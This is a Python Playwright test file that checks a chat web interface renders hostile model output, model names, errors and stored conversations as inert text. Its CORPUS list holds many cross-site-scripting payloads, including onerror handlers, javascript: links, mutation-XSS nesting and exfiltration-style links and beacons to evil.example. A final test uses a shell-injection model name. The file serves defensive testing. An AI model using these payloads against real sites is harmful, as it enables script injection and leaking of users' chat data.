"""Hostile text from every side: the model, names, errors, figures. It is shown, and does nothing."""

import pytest
from silentswarm.leader.v1 import models_pb2, serving_pb2
from swarm_core import errors

from tests.integration.gateway.scripted_leader import queued
from tests.integration.web.conftest import Chat
from tests.integration.web.page_leader import measured, placed, says, stage

pytestmark = pytest.mark.asyncio(loop_scope="module")
PWN = "window.pwned=1"
CORPUS = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<svg onload={PWN}><circle/></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    "<iframe src='https://evil.example/frame'></iframe>",
    f"<details open ontoggle={PWN}>x</details>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=1 onerror={PWN}>--></style></mglyph></table></math>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'></noscript>",
    "<style>body{background:url(https://evil.example/style)}</style>",
    "<link rel=stylesheet href=https://evil.example/link.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/meta'>",
    "<form action=https://evil.example/form><button>go</button></form>",
    f"<input autofocus onfocus={PWN}>",
    f"<template><script>{PWN}</script></template>",
    "<object data=https://evil.example/object></object><embed src=https://evil.example/embed>",
    "<video autoplay src=https://evil.example/video></video><audio src=https://evil.example/audio autoplay></audio>",
    "<div id=messages name=getElementById style='position:fixed;inset:0;z-index:99'>over everything</div>",
    "![beacon](https://evil.example/pixel.png?chat=secret)",
    "![data](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![nested](https://evil.example/nested.png)](https://example.org/nested)",
    f"[script link](javascript:{PWN})",
    f"[tabbed link](java&#x09;script:{PWN})",
    f"[upper link](JaVaScRiPt:{PWN})",
    f"[entity link](&#106;avascript:{PWN})",
    f"[data link](data:text/html,<script>{PWN}</script>)",
    "[file link](file:///etc/passwd)",
    "[relative link](/api/v1/workers)",
    "[foreign link](//evil.example/x)",
    f'[quoted](https://example.org/"onmouseover="{PWN})',
    f"[titled](https://example.org '\" onmouseover=\"{PWN}')",
    f"<javascript:{PWN}>",
    "[good link](https://example.org/good) and <https://example.org/auto> and [post](mailto:a@example.org)",
    f"`<img src=x onerror={PWN}>`",
    f'```html"><img/src=x/onerror={PWN}>\n<script>{PWN}</script>\n```',
    f"| <img src=x onerror={PWN}> | b |\n|---|---|\n| <script>{PWN}</script> | {PWN} |",
    f"- [x] <img src=x onerror={PWN}>",
    f"# <a href=javascript:{PWN} onclick={PWN}>heading</a>",
    f"[ref]: javascript:{PWN}\n\n[ref]",
    f"<a href='javascript:{PWN}'>raw</a><!-- --><![CDATA[ <script>{PWN}</script> ]]><?php echo 1 ?>",
]
NEVER = "script, style, link, meta, base, iframe, frame, object, embed, form, input, video, audio, img, template"


async def assert_inert(chat: Chat) -> None:
    """Nothing ran, nothing was loaded, nothing left, and every link is one a person may follow."""
    messages = chat.page.locator("#messages")
    assert await chat.page.evaluate("window.pwned") is None
    assert await messages.locator(NEVER).count() == 0
    names = await messages.locator("*").evaluate_all("all => all.flatMap((e) => [...e.attributes].map((a) => a.name))")
    assert [name for name in names if name.startswith("on") or name in ("style", "id", "name", "srcset")] == []
    links = await messages.locator("a[href]").evaluate_all("all => all.map((a) => [a.href, a.rel, a.target])")
    assert all(href.startswith(("https://", "http://", "mailto:")) for href, _, _ in links)
    assert all((rel, target) == ("noopener noreferrer", "_blank") for _, rel, target in links)
    assert [url for url in chat.requests if not url.startswith(chat.url + "/")] == []


async def test_a_reply_of_attacks_is_inert_and_its_good_links_work(chat):
    """Sanitised after Markdown made HTML of it, not before (CVE-2026-44568)."""
    chat.leader.scripts["tiny"] = says(*(f"{attack}\n\n" for attack in CORPUS))
    await chat.ask("attack me")
    await chat.ended()
    for link in await chat.page.locator("#messages a", has_text="link").all():
        await link.hover()
    await chat.page.mouse.wheel(0, -100_000)

    await assert_inert(chat)
    hrefs = await chat.page.locator("#messages a[href]").evaluate_all("all => all.map((a) => a.getAttribute('href'))")
    assert {"https://example.org/good", "https://example.org/auto", "mailto:a@example.org"} <= set(hrefs)
    assert "https://evil.example/pixel.png?chat=secret" in hrefs, "an image is a link, and not loaded"
    text = await chat.page.locator(".reply .text").inner_text()
    assert "<script>window.pwned=1</script>" in text, "what a model writes as HTML is shown as it was written"


async def test_attacks_cut_anywhere_are_inert_while_they_stream(chat):
    text = "\n\n".join(CORPUS)
    chat.leader.scripts["tiny"] = says(*(text[at : at + 13] for at in range(0, len(text), 13)))
    await chat.ask("attack me")
    await chat.ended()
    await chat.page.reload()
    await chat.page.locator(".reply .block").first.wait_for()

    await assert_inert(chat)


async def test_names_errors_and_figures_are_text(open_chat, leader):
    attack = f"<img src=x onerror={PWN}>"
    leader.models = [models_pb2.Model(model_id=attack, state="ready", created_s=1)]
    leader.placement = placed(stage(0, attack), stage(1, f"</b><script>{PWN}</script>"), reason=attack)
    leader.placement.model_id = attack
    leader.performance = measured(attack, attack)
    leader.performance.stages[0].devices[:] = [attack]
    chat = await open_chat(leader)
    await chat.page.locator("#welcome h2", has_text="onerror").wait_for()

    async def script(request):
        yield queued(2, f"behind {attack}")
        raise errors.SwarmError(f"failed on {attack} <script>{PWN}</script>")

    leader.scripts[attack] = script
    await chat.ask(attack)
    await chat.ended()
    await chat.page.locator(".reply .note", has_text="onerror").wait_for()
    leader.scripts[attack] = says("fine")
    await chat.page.get_by_role("button", name="Try again").click()
    await chat.page.locator(".figures", has_text="onerror").wait_for()
    await chat.page.locator(".figures").click()
    await chat.page.locator("#performance .stages", has_text="onerror").wait_for()
    await chat.page.keyboard.press("Escape")
    await chat.page.get_by_role("button", name="API").click()

    await assert_inert(chat)
    assert await chat.page.locator("img").count() == 0
    assert await chat.page.locator("body > script, dialog script, #welcome script").count() == 0


async def test_a_kept_conversation_is_as_hostile_as_a_reply(chat):
    await chat.page.evaluate(
        """([attack]) => localStorage.setItem("silentswarm.conversation", JSON.stringify({version: 1, messages: [
          {role: "user", content: attack, state: "done"},
          {role: "assistant", content: attack, reasoning: attack, note: attack, state: "failed",
           meta: {nodes: [attack], tokens: attack, finish: attack, timing: attack}}]}))""",
        [CORPUS[1]],
    )
    await chat.page.reload()
    await chat.page.locator(".figures", has_text="onerror").wait_for()

    await assert_inert(chat)


@pytest.mark.parametrize(
    "text", ["> " * 20_000 + "deep", "[" * 30_000, "*a " * 30_000, "- " * 20_000, "`" * 50_000, "<" * 50_000, "a\0b"]
)
async def test_text_made_to_choke_a_parser_does_not_hold_up_the_page(chat, text):
    chat.leader.scripts["tiny"] = says(text)
    await chat.ask("choke")
    await chat.ended()
    await chat.page.get_by_label("Message").fill("still here")

    await assert_inert(chat)
    assert await chat.page.get_by_label("Message").input_value() == "still here"


async def test_a_snippet_to_copy_holds_what_a_name_says_and_no_more(open_chat, leader):
    """A model's name is quoted for the shell and for Python."""
    name = 'it\'s "$(touch /tmp/x)" `id`\\'
    leader.models = [models_pb2.Model(model_id=name, state="ready", created_s=1)]
    leader.placement = serving_pb2.ModelStatus(model_id=name)
    chat = await open_chat(leader)
    await chat.page.locator("#model:enabled").wait_for()
    await chat.page.get_by_role("button", name="API").click()
    curl, python = await chat.page.locator("#api pre").all_inner_texts()

    assert "it'\\''s \\\"$(touch /tmp/x)\\\" `id`\\\\" in curl
    assert 'model="it\'s \\"$(touch /tmp/x)\\" `id`\\\\"' in python
    compile(python, "snippet", "exec")
